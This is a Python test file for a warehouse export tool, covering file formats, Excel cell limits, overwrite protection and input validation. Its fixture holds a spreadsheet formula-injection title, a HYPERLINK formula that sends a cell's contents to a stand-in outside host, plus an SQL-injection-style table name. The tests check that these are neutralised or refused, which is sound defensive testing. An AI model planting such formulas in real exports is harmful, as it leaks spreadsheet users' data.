"""Exports: what is in each file, what Excel is told of, and what is never overwritten."""

import csv
import hashlib
import json
import os
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest

from tests.desk.digests import SEED
from tests.desk.warehouse import Desk
from warehouse.errors import PressError, UsageError
from warehouse.report.export.export import SUFFIXES, Exported, Wish, export
from warehouse.report.export.snapshot import open_snapshot
from warehouse.report.export.tables import BESIDES, KEYS, PREFIXES, stored_tables

DIGEST = """\
Law
=HYPERLINK("http://x.example/?"&A1,"Ашу") 22.05.2025
Source : https://www.gov.kz/memleket/entities/mfa/press/news/details/998271?lang=kk

+7% өсім: облыс қорытындысы 22.05.2025
Source : https://www.gov.kz/memleket/entities/mfa/press/news/details/998272?lang=kk

-20 градусқа дейін суық болады 22.05.2025
Source : https://www.gov.kz/memleket/entities/mfa/press/news/details/998273?lang=kk
"""
CODES = ("998271", "998272", "998273")
TITLES = ['=HYPERLINK("http://x.example/?"&A1,"Ашу")', "+7% өсім: облыс қорытындысы", "-20 градусқа дейін суық болады"]

ODD = """
select
    -5 as negative, -0.25::decimal(4, 2) as share, 9007199254740993 as key, true as flag, '=1+1' as "=name",
    date '1897-05-04' as early, date '2025-05-22' as day, timestamp '2025-05-22 06:30:00' as moment,
    time '06:30:00' as hour, 'a' || chr(0) || chr(11) || 'b' as control, repeat('ш', 40000) as long_text,
    ['a', 'b'] as list, {'one': 1} as struct, 'nan'::double as not_a_number, null as nothing, '_x0041_' as escape,
    sum(1::hugeint) as total, 'x'::blob as bytes, 18446744073709551615::ubigint as beyond,
    timestamptz '2025-05-22 06:30:00+05' as zoned
"""


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    """A warehouse of the seed and of titles that a spreadsheet would run."""
    desk = Desk.at(tmp_path_factory.mktemp("loaded"))
    desk.load(SEED, as_of="2025-05-21T12:00:00Z")
    desk.load(desk.write("case.txt", DIGEST), as_of="2025-05-22T12:00:00Z")
    return desk


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def write(desk: Desk, output: str, *tables: str, **options: Any) -> Exported:
    return export(desk.settings, Wish(output, tables, **options))


def rows_of_csv(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.usefixtures("here")
def test_csv_is_as_received_and_for_excel_its_titles_run_nothing(loaded: Desk) -> None:
    write(loaded, "csv", "mart_release")
    plain = rows_of_csv(Path("mart_release.csv"))
    assert not Path("mart_release.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    done = write(loaded, "csv", "mart_release", for_excel=True, force=True)
    assert (done.path, done.rows) == (Path("mart_release.csv"), 23)
    assert done.path.read_bytes().startswith(b"\xef\xbb\xbf")
    safe = rows_of_csv(done.path, "utf-8-sig")
    titles, safe_titles = ({row["release_code"]: row["title"] for row in rows} for rows in (plain, safe))
    assert [titles[code] for code in CODES] == TITLES
    assert [safe_titles[code] for code in CODES] == [f"'{title}" for title in TITLES]
    assert all(row["release_key"] == other["release_key"] for row, other in zip(plain, safe, strict=True))
    assert done.notes[0].startswith(
        "Excel: texts that would run as formulas have an apostrophe now: 3 cells, the first "
    )


@pytest.mark.usefixtures("here")
def test_in_csv_for_excel_numbers_stay_numbers_and_texts_are_texts(loaded: Desk) -> None:
    done = write(loaded, "csv", sql=ODD, for_excel=True)
    line = done.path.read_text(encoding="utf-8-sig").splitlines()[1]
    assert line.startswith('-5,-0.25,9007199254740993,true,"\'=1+1","1897-05-04","2025-05-22","2025-05-22T06:30:00",')
    (row,) = rows_of_csv(done.path, "utf-8-sig")
    assert row["'=name"] == "'=1+1"
    assert (row["list"], row["struct"], row["nothing"]) == ('["a", "b"]', '{"one": 1}', "")
    assert done.notes == [
        "Excel: whole numbers of more than 15 digits will be rounded: 2 cells, the first in row 2, key.",
        "Excel: texts that would run as formulas have an apostrophe now: 1 cell, the first in row 2, =name.",
        "Excel: texts of more than 32,767 characters will be cut: 1 cell, the first in row 2, long_text.",
    ]


@pytest.mark.usefixtures("here")
def test_a_workbook_has_typed_cells_and_says_what_excel_cannot_hold(loaded: Desk) -> None:
    done = write(loaded, "xlsx", sql=ODD)
    assert done.path == Path("answer.xlsx")
    book = openpyxl.load_workbook(done.path)
    heads, cells = book["answer"].iter_rows()
    values = {head.value: cell.value for head, cell in zip(heads, cells, strict=True)}
    types = {head.value: cell.data_type for head, cell in zip(heads, cells, strict=True)}
    assert heads[4].data_type == types["=name"] == "s"
    assert values["=name"] == "=1+1"
    assert (values["negative"], values["share"], values["total"], values["flag"]) == (-5, -0.25, 1, True)
    assert values["key"] == "9007199254740993"
    assert values["beyond"] == "18446744073709551615"
    assert [str(values[name]) for name in ("early", "day", "moment", "zoned", "hour")] == [
        "1897-05-04", "2025-05-22 00:00:00", "2025-05-22 06:30:00", "2025-05-22 01:30:00", "06:30:00"
    ]  # fmt: skip
    assert values["control"] == "a��b"
    assert values["escape"] == "_x005F_x0041_"  # how a workbook writes _x0041_, which it would take for “A”
    assert len(values["long_text"]) <= 32_767
    assert values["long_text"].endswith(" more characters)")
    assert (values["list"], values["not_a_number"], values["nothing"]) == ('["a", "b"]', "nan", None)
    assert done.notes == [
        "Excel: whole numbers of more than 15 digits are text: 2 cells, the first in row 2, key.",
        "Excel: dates before 1900 are text: 1 cell, the first in row 2, early.",
        "Excel: control characters are � now: 1 cell, the first in row 2, control.",
        "Excel: texts too long for a cell are cut, and say what is left out: 1 cell, the first in row 2, long_text.",
    ]


@pytest.mark.usefixtures("here")
def test_a_workbook_has_a_sheet_for_each_table_and_one_that_says_what_they_are(loaded: Desk) -> None:
    done = write(loaded, "xlsx", "mart_release", "dim_section")
    assert (done.path, done.tables) == (Path("warehouse.xlsx"), 2)
    book = openpyxl.load_workbook(done.path)
    assert book.sheetnames == ["mart_release", "dim_section", "about"]
    titles = [cell for cell in book["mart_release"]["F"] if cell.value in TITLES]
    assert [cell.data_type for cell in titles] == ["s", "s", "s"]
    about = {row[0].value: row[1].value for row in book["about"].iter_rows()}
    assert about["SHA-256"] == hashlib.sha256(loaded.settings.published.read_bytes()).hexdigest()
    assert about["as of"] == "2025-05-22T12:00:00Z"
    assert about["load"] == loaded.runs()[-1]["run_id"]
    assert about["word_count"]
    again = write(loaded, "xlsx", "mart_release", "dim_section", out=Path("again.xlsx"))
    assert again.path.read_bytes() == done.path.read_bytes()


@pytest.mark.usefixtures("here")
def test_sqlite_has_types_nulls_keys_and_words_that_are_found(loaded: Desk) -> None:
    done = write(loaded, "sqlite")
    with closing(sqlite3.connect(done.path)) as con:
        assert con.execute("pragma integrity_check").fetchone() == ("ok",)
        assert con.execute("pragma foreign_key_check").fetchall() == []
        found = con.execute(
            "select release_code from mart_release where rowid in"
            " (select rowid from mart_release_fts where mart_release_fts match 'өсім')"
        )
        assert found.fetchall() == [("998272",)]
        query = """
            select typeof(release_key), typeof(body), typeof(has_body), first_seen_at, release_date
            from mart_release where release_code = '998272'
        """
        assert con.execute(query).fetchone() == (
            "integer", "null", "integer", "2025-05-22T12:00:00", "2025-05-22"
        )  # fmt: skip
        breaks = con.execute("select max(paragraph_breaks) from dim_text").fetchone()
        assert json.loads(breaks[0])
        keys = con.execute("select name from pragma_table_info('dim_text') where pk").fetchall()
        assert keys == [("text_key",), ("version_no",)]
        references = con.execute("select \"table\" from pragma_foreign_key_list('fact_listing')").fetchall()
        assert ("fact_release",) in references
    metadata = json.loads(Path("warehouse.metadata.json").read_text(encoding="utf-8"))
    described = metadata["databases"]["warehouse"]["tables"]["mart_release"]
    assert "language" in described["facets"]
    assert described["columns"]["word_count"]
    assert loaded.runs()[-1]["run_id"] in metadata["description"]


@pytest.mark.usefixtures("here")
def test_sqlite_takes_every_type(loaded: Desk) -> None:
    done = write(loaded, "sqlite", sql=ODD)
    with closing(sqlite3.connect(done.path)) as con:
        con.row_factory = sqlite3.Row
        row = con.execute("select * from answer").fetchone()
    assert (row["negative"], row["share"], row["key"], row["flag"], row["total"]) == (-5, -0.25, 9007199254740993, 1, 1)
    assert (row["day"], row["moment"], row["hour"]) == ("2025-05-22", "2025-05-22T06:30:00", "06:30:00")
    assert (row["zoned"], row["list"], row["struct"]) == ("2025-05-22T01:30:00Z", '["a","b"]', '{"one":1}')
    assert (row["bytes"], row["beyond"], row["nothing"]) == (b"x", "18446744073709551615", None)


@pytest.mark.usefixtures("here")
def test_a_package_describes_its_files(loaded: Desk) -> None:
    done = write(loaded, "datapackage", "mart_release", "dim_text")
    descriptor = json.loads((done.path / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor["created"] == "2025-05-22T12:00:00Z"
    assert descriptor["snapshot"]["sha256"] == hashlib.sha256(loaded.settings.published.read_bytes()).hexdigest()
    assert descriptor["snapshot"]["run_id"] == loaded.runs()[-1]["run_id"]
    assert descriptor["licenses"][0]["name"] == "MIT"
    for resource in descriptor["resources"]:
        path = done.path / resource["path"]
        assert resource["hash"] == f"sha256:{hashlib.sha256(path.read_bytes()).hexdigest()}"
        assert duckdb.read_parquet(str(path)).columns == [field["name"] for field in resource["schema"]["fields"]]
        assert resource["rows"] == 23
        assert all(field["description"] for field in resource["schema"]["fields"])
    write(loaded, "datapackage", "dim_section", out=done.path, force=True)
    assert sorted(path.name for path in done.path.iterdir()) == ["datapackage.json", "dim_section.parquet"]


@pytest.mark.usefixtures("here")
def test_a_copy_for_older_clients_has_the_rows_of_every_table_and_view(loaded: Desk) -> None:
    done = write(loaded, "duckdb")
    with (
        duckdb.connect(done.path, read_only=True) as con,
        duckdb.connect(loaded.settings.published, read_only=True) as own,
    ):
        assert con.execute("select tags['storage_version'] from duckdb_databases() where not internal").fetchone() == (
            "v1.0.0+",
        )
        names = [name for (name,) in con.execute("select table_name from duckdb_tables()").fetchall()]
        assert {"fact_release", "mart_release", "dim_text"} <= set(names)
        assert con.execute("select count(*) from duckdb_views() where not internal").fetchone() == (0,)
        for name in ("fact_release", "dim_text", "mart_release"):
            query = f"from {name} order by all"
            assert con.execute(query).fetchall() == own.execute(query).fetchall()
        words = "select comment from duckdb_columns() where table_name = 'mart_release' and column_name = 'title'"
        assert con.execute(words).fetchone() == own.execute(words).fetchone()


@pytest.mark.usefixtures("here")
@pytest.mark.parametrize("output", SUFFIXES)
def test_the_answer_to_a_question_goes_to_every_format(loaded: Desk, output: str) -> None:
    done = write(loaded, output, question="newest_releases", values={"limit": "4"}, out=Path("some"))
    assert (done.path, done.tables, done.rows) == (Path("some"), 1, 4)
    assert {path.name for path in Path().iterdir()} - {"some.metadata.json"} == {"some"}


@pytest.mark.usefixtures("here")
def test_parquet_holds_whole_numbers_of_any_size(loaded: Desk) -> None:
    done = write(loaded, "parquet", sql="select 12345678901234567890123::hugeint as total")
    [(number,)] = duckdb.read_parquet(str(done.path)).fetchall()
    assert str(number) == "12345678901234567890123"


@pytest.mark.parametrize("output", SUFFIXES)
def test_nothing_is_overwritten_unless_it_is_wished(loaded: Desk, here: Path, output: str) -> None:
    path = here / "taken"
    path.write_text("mine", encoding="utf-8")
    with pytest.raises(UsageError, match="exists already; --force replaces it"):
        write(loaded, output, "dim_section", out=path)
    assert path.read_text(encoding="utf-8") == "mine"
    assert write(loaded, output, "dim_section", out=path, force=True).path == path
    assert path.is_dir() == (output == "datapackage")


def test_a_folder_of_other_files_and_the_warehouse_itself_are_never_replaced(loaded: Desk, here: Path) -> None:
    (here / "notes").mkdir()
    (here / "notes" / "mine.txt").write_text("mine", encoding="utf-8")
    own = loaded.settings
    inside = own.home / "archive" / "x.csv"
    for path in (here / "notes", own.warehouse, own.published, own.published.parent / "x", inside, own.lock):
        output = "datapackage" if path.is_dir() else "csv"
        with pytest.raises(UsageError, match="choose another --out"):
            write(loaded, output, "dim_section", out=path, force=True)
    assert (here / "notes" / "mine.txt").exists()


def test_what_fails_leaves_nothing(loaded: Desk, here: Path) -> None:
    with pytest.raises(UsageError, match="line 1, column 13: Could not convert string"):
        write(loaded, "csv", sql="select title::integer from mart_release")
    (here / "file").touch()
    with pytest.raises(PressError, match="cannot be written: Not a directory"):
        write(loaded, "csv", "dim_section", out=here / "file" / "x.csv")
    assert [path.name for path in here.iterdir()] == ["file"]


@pytest.mark.usefixtures("here")
@pytest.mark.parametrize(
    ("wish", "message"),
    [
        ({"output": "csv"}, "--format csv holds one table: name one, or take --query or --sql."),
        ({"output": "ods"}, "--format ods: it can be xlsx, csv, parquet, sqlite, datapackage, duckdb."),
        (
            {"output": "csv", "tables": ["mart_relase"]},
            "“mart_relase” in the warehouse. Did you mean mart_",
        ),
        ({"output": "csv", "tables": ['x"; drop']}, 'There is no table or view “x"; drop” in the warehouse.'),
        ({"output": "csv", "tables": ["dim_text"], "sql": "select 1"}, "choose one of the three"),
        ({"output": "csv", "question": "nope"}, "There is no question “nope”"),
        ({"output": "csv", "values": {"a": "b"}}, "--param goes with --query."),
        ({"output": "parquet", "sql": "select 1", "for_excel": True}, "--for-excel goes with --format csv"),
        ({"output": "csv", "sql": "select 1; select 2"}, "--sql takes one statement whose answer is rows."),
        ({"output": "csv", "sql": "explain select 1"}, "--sql takes one statement whose answer is rows."),
        ({"output": "csv", "sql": ""}, "--sql takes one statement whose answer is rows."),
        ({"output": "csv", "sql": "copy dim_text to 'x'"}, "line 1, column 1: COPY is refused"),
        ({"output": "csv", "sql": "select 1 as a, 2 as A"}, "Two columns of the answer are named A"),
    ],
)
def test_a_wish_that_makes_no_sense_is_one_line(loaded: Desk, wish: dict[str, Any], message: str) -> None:
    with pytest.raises(UsageError) as caught:
        export(loaded.settings, Wish(**wish))
    assert message in str(caught.value)
    assert list(Path().iterdir()) == []


def test_a_whole_export_has_what_people_work_with_and_keys_tell_rows_apart(loaded: Desk, tmp_path: Path) -> None:
    with open_snapshot(loaded.settings, tmp_path) as (con, _):
        tables = {table.name: table for table in stored_tables(con)}
        assert set(KEYS) <= set(tables)
        assert set(BESIDES) <= set(tables)
        assert all(name.startswith(PREFIXES) for name in set(tables) - set(BESIDES))
        assert {"fact_release", "fact_listing", "fact_fetch", "fact_edit"} <= {
            n for n, each in tables.items() if each.key
        }
        for table in tables.values():
            if table.key:
                names = ", ".join(table.key)
                twice = f"select {names} from {table.name} group by all having count(*) > 1"
                assert con.execute(twice).fetchall() == [], table.name


def test_a_copy_published_meanwhile_changes_nothing_of_an_export(loaded: Desk, tmp_path: Path) -> None:
    published = loaded.settings.published
    was = hashlib.sha256(published.read_bytes()).hexdigest()
    with open_snapshot(loaded.settings, tmp_path) as (con, snapshot):
        other = tmp_path / "other"
        other.write_bytes(published.read_bytes() + b"\0" * 4096)
        kept = tmp_path / "kept"
        kept.write_bytes(published.read_bytes())
        os.replace(other, published)
        try:
            assert snapshot.sha256 == was
            assert con.execute("select count(*) from mart_release").fetchone() == (23,)
        finally:
            os.replace(kept, published)
